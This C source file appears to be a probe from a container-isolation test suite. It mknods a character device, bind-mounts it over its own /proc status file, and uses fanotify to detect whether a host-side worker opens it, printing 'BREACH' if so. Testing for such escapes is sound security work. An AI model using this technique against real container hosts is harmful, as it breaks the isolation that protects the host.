/*
 * cover: mounts a device that the container may make but not open over the status of its own process. Then it makes a
 * folder from a descriptor of /proc, and a worker looks there who the caller is.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define NODE "/node"

/* The file system may be the host's too, so others open files there. */
static bool is_of_node(const struct fanotify_event_metadata *event)
{
    union {
        struct file_handle handle;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } node = {.handle.handle_bytes = MAX_HANDLE_SZ};
    const struct fanotify_event_info_fid *fid = (const void *)(event + 1);
    const struct file_handle *opened = (const void *)fid->handle;
    int mount;

    if (name_to_handle_at(AT_FDCWD, NODE, &node.handle, &mount, 0) < 0)
        fail("name_to_handle_at");
    return opened->handle_bytes == node.handle.handle_bytes && opened->handle_type == node.handle.handle_type
        && memcmp(opened->f_handle, node.handle.f_handle, opened->handle_bytes) == 0;
}

static bool was_opened(int watch)
{
    static char events[1 << 16] __attribute__((aligned(8)));
    ssize_t length;

    while ((length = read(watch, events, sizeof events)) > 0)
        for (const struct fanotify_event_metadata *event = (const void *)events; FAN_EVENT_OK(event, length);
             event = FAN_EVENT_NEXT(event, length))
            if (is_of_node(event))
                return true;
    return false;
}

int main(void)
{
    char status[32];
    int proc = open("/proc", O_PATH | O_DIRECTORY),
        watch = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID | FAN_NONBLOCK, 0);

    snprintf(status, sizeof status, "/proc/%d/status", getpid());
    if (mknod(NODE, S_IFCHR | 0666, makedev(10, 229)) < 0)
        fail(NODE);
    if (open(NODE, O_RDONLY) >= 0) {
        fprintf(stderr, "the container may open it\n");
        return 2;
    }
    if (mount(NODE, status, NULL, MS_BIND, NULL) < 0)
        fail(status);
    if (fanotify_mark(watch, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, "/") < 0)
        fail("fanotify");
    mkdirat(proc, "folder", 0755);
    saw("mkdir: error %d", errno);
    if (was_opened(watch))
        saw("BREACH: the device was opened");
    report();
    return 0;
}
